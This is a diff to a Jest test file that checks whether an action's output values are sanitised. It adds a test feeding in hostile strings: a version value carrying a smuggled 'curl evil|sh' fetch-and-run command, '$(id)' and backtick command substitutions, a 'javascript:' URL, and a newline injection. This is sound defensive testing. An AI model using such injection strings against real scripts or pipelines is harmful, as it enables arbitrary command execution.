@@ -81,6 +81,8 @@ describe('outputs', () => {
       'current-version': '1.5.0',
       'required-bump': 'minor',
       report: '/tmp/r.json',
+      sarif: '/tmp/report.sarif',
+      'exit-code': '1',
       'comment-url': '',
       'check-url': 'https://x/1',
     });
@@ -109,5 +111,28 @@ describe('outputs', () => {
       'baseline-version': '',
       'required-bump': 'none',
     });
+  });
+
+  test('each is cut to what its meaning allows: no text of a contract gets into a script', () => {
+    const evil = '1.1.0";curl evil|sh;"';
+    const hostile = contract('a\nverdict=compatible', {
+      current: { version: evil },
+      baseline: { state: 'found', source: 'release', label: 'x', version: '$(id)' },
+    });
+    const addresses = {
+      report: '/tmp/r.json',
+      sarif: '/tmp/r.sarif',
+      comment: 'https://x/`id`',
+      check: 'javascript:x',
+    };
+    expect(outputsOf(report(hostile), addresses)).toMatchObject({
+      'current-version': '1.1.0',
+      'baseline-version': '',
+      'comment-url': '',
+      'check-url': '',
+    });
+    expect(outputsOf(report(hostile, contract('b')), addresses)['current-version']).toBe(
+      'a_verdict=1.1.0\nb=1.5.0'.replace('a_verdict=', 'a_verdict_compatible='),
+    );
   });
 });
